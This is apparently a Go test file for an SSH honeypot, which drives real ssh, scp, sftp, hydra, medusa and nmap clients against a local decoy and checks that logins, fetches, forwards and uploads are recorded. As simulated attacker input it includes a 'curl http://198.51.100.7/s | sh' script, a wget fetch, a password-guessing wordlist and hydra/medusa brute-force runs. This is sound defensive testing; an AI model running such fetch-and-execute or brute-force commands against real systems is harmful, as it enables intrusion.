package ssh

import (
	"bytes"
	"context"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bartizan/internal/observe"
)

// client runs programs that nobody here wrote against a decoy of their own.
type client struct {
	*testing.T
	*rig
	dir string
}

// do runs a program and returns everything it prints and its exit status.
func (c *client) do(name string, args ...string) (string, int) {
	c.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Dir = c.dir
	cmd.Env = append(os.Environ(), "HOME="+c.dir, "LC_ALL=C")
	cmd.WaitDelay = 5 * time.Second
	out, err := cmd.CombinedOutput()
	if err != nil && cmd.ProcessState == nil {
		c.Fatalf("%s: %v", name, err)
	}
	return string(out), cmd.ProcessState.ExitCode()
}

// options make the OpenSSH programs neither ask nor remember.
func (c *client) options() []string {
	return []string{"-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=" + filepath.Join(c.dir, "known"), "-o", "PreferredAuthentications=password", "-o", "NumberOfPasswordPrompts=1", "-o", "LogLevel=ERROR"}
}

func (c *client) ssh(args ...string) (string, int) {
	c.Helper()
	all := append([]string{"-p", "x", "ssh", "-p", c.port}, c.options()...)
	return c.do("sshpass", append(all, args...)...)
}

func (c *client) scp(args ...string) (string, int) {
	c.Helper()
	all := append([]string{"-p", "x", "scp", "-P", c.port}, c.options()...)
	return c.do("sshpass", append(all, args...)...)
}

// want fails unless the text has all parts.
func (c *client) want(text string, parts ...string) {
	c.Helper()
	for _, p := range parts {
		if !strings.Contains(text, p) {
			c.Errorf("%q lacks %q", text, p)
		}
	}
}

// write makes a file to send.
func (c *client) write(name string, content []byte) string {
	c.Helper()
	p := filepath.Join(c.dir, name)
	if err := os.WriteFile(p, content, 0o755); err != nil {
		c.Fatal(err)
	}
	return p
}

// captured waits for an upload and compares it.
func (c *client) captured(path, how string, content []byte) {
	c.Helper()
	o := c.sink.wait(c.T, how+" of "+path, func(o *observe.Observation) bool { return o.File != nil && o.File.Path == path && o.File.How == how })
	if len(o.Evidence) != 1 || !bytes.Equal(o.Evidence[0].Data, content) || o.File.Size != int64(len(content)) || len(o.File.SHA256) != 64 {
		c.Errorf("%s captured as %+v", path, *o.File)
	}
}

// clients is the table; the first word of a name is the program needed.
var clients = []struct {
	name string
	run  func(c *client)
}{
	{"ssh exec", sshExec}, {"ssh keys", sshKeys}, {"ssh terminal", sshTerminal}, {"ssh relays", sshRelays}, {"ssh master", sshMaster}, {"ssh methods", sshMethods},
	{"scp old", scpOld}, {"scp tree", scpTree}, {"scp new", scpNew}, {"sftp batch", sftpBatch}, {"ssh-keyscan", keyscan},
	{"hydra", hydra}, {"medusa", medusa}, {"nmap version", nmapVersion}, {"nmap algorithms", nmapAlgorithms},
}

func TestRealClients(t *testing.T) {
	const least = 15
	ran, missing := 0, 0
	for _, k := range clients {
		prog, _, _ := strings.Cut(k.name, " ")
		t.Run(k.name, func(t *testing.T) {
			for _, p := range []string{prog, "sshpass"} {
				if _, err := exec.LookPath(p); err != nil {
					missing++
					t.Skipf("%s is not installed: make test installs it", p)
				}
			}
			ran++
			conf := open()
			if prog == "hydra" || prog == "medusa" {
				conf = Default()
			}
			k.run(&client{t, start(t, conf), t.TempDir()})
		})
	}
	if all := flag.Lookup("test.run").Value.String() == ""; all && ran < least && missing == 0 {
		t.Errorf("%d clients ran, want at least %d", ran, least)
	}
}

func sshExec(c *client) {
	out, code := c.ssh("root@127.0.0.1", "uname -a; exit 5")
	c.want(out, "Linux "+c.inst.Persona.Hostname, c.inst.Persona.Kernel.Release)
	if code != 5 {
		c.Errorf("exit status %d, want 5", code)
	}
	o := c.sink.wait(c.T, "end", func(o *observe.Observation) bool { return o.Interaction != nil && o.Interaction.Ended })
	c.want(o.Interaction.Client, "SSH-2.0-OpenSSH_")
	c.sink.wait(c.T, "none", func(o *observe.Observation) bool { return o.Auth != nil && o.Auth.Method == "none" })
}

// sshKeys has the client check every host key, and learn the others from one.
func sshKeys(c *client) {
	for _, algo := range []string{"rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-ed25519"} {
		out, _ := c.do("sshpass", append(append([]string{"-p", "x", "ssh", "-p", c.port, "-o", "UserKnownHostsFile=/dev/null", "-o", "HostKeyAlgorithms=" + algo}, c.options()...), "root@127.0.0.1", "echo", algo, "works")...)
		c.want(out, algo+" works")
	}
	known := filepath.Join(c.dir, "learnt")
	args := append([]string{"-p", "x", "ssh", "-p", c.port, "-o", "UserKnownHostsFile=" + known, "-o", "UpdateHostKeys=yes", "-o", "HostKeyAlgorithms=ssh-ed25519,rsa-sha2-512,ecdsa-sha2-nistp256"}, c.options()...)
	for _, line := range []string{"true", "sleep 1"} { // only a key known before is believed about others
		c.do("sshpass", append(args, "root@127.0.0.1", line)...)
	}
	list, _ := os.ReadFile(known)
	c.want(string(list), "ssh-ed25519 ", "ssh-rsa ", "ecdsa-sha2-nistp256 ")
}

func sshTerminal(c *client) {
	in := strings.NewReader("whoami\ncd /tmp\npwd\nwget http://198.51.100.7/x\nexit 4\n")
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	args := append([]string{"-p", "x", "ssh", "-tt", "-p", c.port}, c.options()...)
	cmd := exec.CommandContext(ctx, "sshpass", append(args, "root@127.0.0.1")...)
	cmd.Stdin = in
	out, _ := cmd.CombinedOutput() // the status is the shell's
	c.want(string(out), "root@"+c.inst.Persona.Hostname+":~# ", "\r\nroot\r\n", "\r\n/tmp\r\n")
	c.sink.wait(c.T, "fetch", func(o *observe.Observation) bool { return o.Fetch != nil && o.Fetch.URL == "http://198.51.100.7/x" })
}

func sshRelays(c *client) {
	out, _ := c.do("sshpass", "-p", "x", "ssh", "-v", "-p", c.port, "-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "PubkeyAuthentication=no", "-W", "203.0.113.9:25", "root@127.0.0.1")
	c.want(out, "open failed: administratively prohibited: open failed")
	c.sink.wait(c.T, "relay", func(o *observe.Observation) bool {
		return o.Forward != nil && o.Forward.Kind == "direct-tcpip" && o.Forward.Target == "203.0.113.9:25"
	})
	out, _ = c.ssh("-o", "ExitOnForwardFailure=yes", "-R", "8080:localhost:80", "root@127.0.0.1", "true")
	c.want(out, "remote port forwarding failed")
	c.sink.wait(c.T, "listener", func(o *observe.Observation) bool { return o.Forward != nil && o.Forward.Kind == "tcpip-forward" })
}

// sshMaster shares one connection between several clients, which then share
// what they write.
func sshMaster(c *client) {
	sock := filepath.Join(c.dir, "m")
	ask := c.write("ask", []byte("#!/bin/sh\necho x\n"))
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	master := exec.CommandContext(ctx, "ssh", append(c.options(), "-p", c.port, "-N", "-M", "-S", sock, "root@127.0.0.1")...)
	master.Env = append(os.Environ(), "SSH_ASKPASS="+ask, "SSH_ASKPASS_REQUIRE=force")
	if err := master.Start(); err != nil {
		c.Fatal(err)
	}
	defer master.Wait()
	defer c.do("ssh", "-S", sock, "-O", "exit", "root@127.0.0.1")
	c.sink.wait(c.T, "login", func(o *observe.Observation) bool { return o.Auth != nil && o.Auth.Accepted })
	for {
		if _, code := c.do("ssh", "-S", sock, "-O", "check", "root@127.0.0.1"); code == 0 || ctx.Err() != nil {
			break
		}
	}
	c.ssh("-S", sock, "root@127.0.0.1", "echo shared > /tmp/f")
	out, _ := c.ssh("-S", sock, "root@127.0.0.1", "cat /tmp/f")
	c.want(out, "shared")
	if n := c.runner.Stats().Accepted; n != 1 {
		c.Errorf("%d connections, want one", n)
	}
}

// sshMethods offers a key and answers a prompt.
func sshMethods(c *client) {
	key := filepath.Join(c.dir, "id")
	if out, code := c.do("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key); code != 0 {
		c.Fatal(out)
	}
	print, _ := c.do("ssh-keygen", "-l", "-f", key+".pub")
	sum := strings.Fields(print)[1]
	out, _ := c.do("sshpass", "-p", "x", "ssh", "-p", c.port, "-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o",
		"PreferredAuthentications=publickey,keyboard-interactive", "-i", key, "root@127.0.0.1", "id -un")
	c.want(out, "root")
	c.sink.wait(c.T, "key", func(o *observe.Observation) bool {
		return o.Auth != nil && o.Auth.Method == "publickey" && o.Auth.Key == sum && !o.Auth.Accepted
	})
	c.sink.wait(c.T, "prompt", func(o *observe.Observation) bool {
		return o.Auth != nil && o.Auth.Method == "keyboard-interactive" && o.Auth.Password == "x" && o.Auth.Accepted
	})
}

func scpOld(c *client) {
	body := bytes.Repeat([]byte("\x7fELF\x00\xff"), 30000)
	src := c.write("bot.x86", body)
	if out, code := c.scp("-O", "-p", src, "root@127.0.0.1:/tmp/.b"); code != 0 {
		c.Errorf("up: %d %s", code, out)
	}
	c.captured("/tmp/.b", "scp", body)
	if out, code := c.scp("-O", src, "root@127.0.0.1:"); code != 0 {
		c.Errorf("to home: %d %s", code, out)
	}
	c.captured("/root/bot.x86", "scp", body)
	if out, code := c.scp("-O", "root@127.0.0.1:/etc/hostname", c.dir+"/got"); code != 0 {
		c.Errorf("down: %d %s", code, out)
	}
	got, _ := os.ReadFile(c.dir + "/got")
	c.want(string(got), c.inst.Persona.Hostname)
	out, code := c.scp("-O", "root@127.0.0.1:/nope", c.dir+"/no")
	if c.want(out, "No such file or directory"); code == 0 {
		c.Error("a missing file is fetched")
	}
}

func scpTree(c *client) {
	if err := os.MkdirAll(filepath.Join(c.dir, "kit/sub"), 0o755); err != nil {
		c.Fatal(err)
	}
	c.write("kit/a.sh", []byte("#!/bin/sh\n"))
	c.write("kit/sub/b", []byte("bbb"))
	if out, code := c.scp("-O", "-r", filepath.Join(c.dir, "kit"), "root@127.0.0.1:/tmp"); code != 0 {
		c.Errorf("tree: %d %s", code, out)
	}
	c.captured("/tmp/kit/a.sh", "scp", []byte("#!/bin/sh\n"))
	c.captured("/tmp/kit/sub/b", "scp", []byte("bbb"))
	if out, code := c.scp("-O", "-r", "root@127.0.0.1:/etc/ssh", filepath.Join(c.dir, "back")); code != 0 {
		c.Errorf("tree back: %d %s", code, out)
	}
	if list, err := os.ReadDir(filepath.Join(c.dir, "back")); err != nil || len(list) == 0 {
		c.Errorf("tree back is %v, %v", list, err)
	}
}

func scpNew(c *client) {
	body := bytes.Repeat([]byte("new protocol "), 40000)
	if out, code := c.scp(c.write("x", body), "root@127.0.0.1:/tmp/x"); code != 0 {
		c.Errorf("up: %d %s", code, out)
	}
	c.captured("/tmp/x", "sftp", body)
	if out, code := c.scp("root@127.0.0.1:/etc/passwd", c.dir+"/passwd"); code != 0 {
		c.Errorf("down: %d %s", code, out)
	}
	got, _ := os.ReadFile(c.dir + "/passwd")
	c.want(string(got), "root:x:0:0:")
}

func sftpBatch(c *client) {
	body := []byte("#!/bin/sh\ncurl http://198.51.100.7/s | sh\n")
	src := c.write("s.sh", body)
	batch := fmt.Sprintf("pwd\nls -la /etc\nmkdir /tmp/d\nput %s /tmp/d/s.sh\nchmod 755 /tmp/d/s.sh\nls -l /tmp/d\nrename /tmp/d/s.sh /tmp/d/t.sh\nget /tmp/d/t.sh %s\nsymlink /tmp/d/t.sh /tmp/l\ndf /\nrm /tmp/d/t.sh\nrmdir /tmp/d\n-ls /nope\n", src, c.dir+"/back")
	args := append([]string{"-p", "x", "sftp", "-P", c.port}, c.options()...)
	args = append(args, "-o", "BatchMode=no", "-b", c.write("batch", []byte(batch)), "root@127.0.0.1")
	out, code := c.do("sshpass", args...)
	if code != 0 {
		c.Errorf("sftp: %d %s", code, out)
	}
	c.want(out, "Remote working directory: /root", "passwd", "-rwxr-xr-x", "s.sh")
	c.captured("/tmp/d/s.sh", "sftp", body)
	if got, _ := os.ReadFile(c.dir + "/back"); !bytes.Equal(got, body) {
		c.Errorf("back comes %q", got)
	}
}

func keyscan(c *client) {
	out, _ := c.do("ssh-keyscan", "-p", c.port, "127.0.0.1")
	c.want(out, "ssh-ed25519 ", "ecdsa-sha2-nistp256 ", "ssh-rsa ", c.inst.Persona.SSH.Banner)
}

const wordlist = "letmein\nmonkey\ndragon\nbaseball\nmaster\nqazwsx\nshadow\nsunshine\nprincess\nfootball\nqwerty\nsuperman\niloveyou\nhunter2\ntrustno1\nzaq1zaq1\n"

func hydra(c *client) {
	list := c.write("words", []byte(wordlist))
	out, _ := c.do("hydra", "-I", "-t", "4", "-l", "root", "-P", list, "-s", c.port, "127.0.0.1", "ssh")
	c.want(out, "login: root", "1 valid password found")
	c.brute()
}

func medusa(c *client) {
	list := c.write("words", []byte(wordlist))
	out, _ := c.do("medusa", "-h", "127.0.0.1", "-u", "root", "-P", list, "-n", c.port, "-M", "ssh", "-f", "-t", "2")
	c.want(out, "ACCOUNT FOUND", "User: root", "[SUCCESS]")
	c.brute()
}

// brute checks that guessing was reported before it succeeded.
func (c *client) brute() {
	c.Helper()
	fails := c.sink.count(func(o *observe.Observation) bool { return o.Auth != nil && o.Auth.Method != "none" && !o.Auth.Accepted })
	wins := c.sink.count(func(o *observe.Observation) bool { return o.Auth != nil && o.Auth.Accepted })
	if fails < 5 || wins < 1 {
		c.Errorf("%d failures and %d logins reported", fails, wins)
	}
}

func nmapVersion(c *client) {
	out, _ := c.do("nmap", "-n", "-Pn", "-sV", "-p", c.port, "127.0.0.1")
	version := strings.TrimPrefix(strings.Fields(c.inst.Persona.SSH.Banner)[0], "SSH-2.0-OpenSSH_")
	c.want(out, "ssh", "OpenSSH "+version, "protocol 2.0", c.inst.Persona.Distro.Name[:6])
}

func nmapAlgorithms(c *client) {
	out, _ := c.do("nmap", "-n", "-Pn", "-p", c.port, "--script", "+ssh2-enum-algos,+ssh-hostkey,+ssh-auth-methods", "--script-args", "ssh_hostkey=full", "127.0.0.1")
	c.want(out, "curve25519-sha256\n", "chacha20-poly1305@openssh.com", "rsa-sha2-512\n|       rsa-sha2-256\n", "hmac-sha2-256-etm@openssh.com")
	// Of nmap's Diffie-Hellman numbers one in 512, which is a byte shorter and begins with a set bit, arrives as a negative
	// one (pack_mpint of its ssh2.lua), which no server takes: then a key is missing, and hardly ever both.
	if !strings.Contains(out, "ssh-ed25519 AAAA") && !strings.Contains(out, "ecdsa-sha2-nistp256 AAAA") {
		c.Errorf("%q has no host key", out)
	}
	out, _ = c.do("ssh-keyscan", "-T", "20", "-p", c.port, "-t", "rsa,ecdsa,ed25519", "127.0.0.1")
	c.want(out, " ssh-rsa AAAA", " ecdsa-sha2-nistp256 AAAA", " ssh-ed25519 AAAA")
}
